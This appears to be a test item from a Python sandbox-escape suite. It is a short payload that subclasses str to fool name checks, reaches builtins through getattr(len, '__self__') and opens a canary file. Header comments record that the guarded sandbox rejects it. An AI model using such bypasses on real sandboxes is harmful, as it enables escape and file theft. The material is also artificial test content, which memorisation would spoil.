# Technique   a text that lies to the check of a name
# Mechanism   startswith and __contains__ are overridden
# As shipped  rejected: class
# Unguarded   blocked: openat

class S(str):
    def startswith(self, *rest):
        return False
    def __getitem__(self, at):
        return "x"
return getattr(len, S("__self__")).open(CANARY_FILE).read()
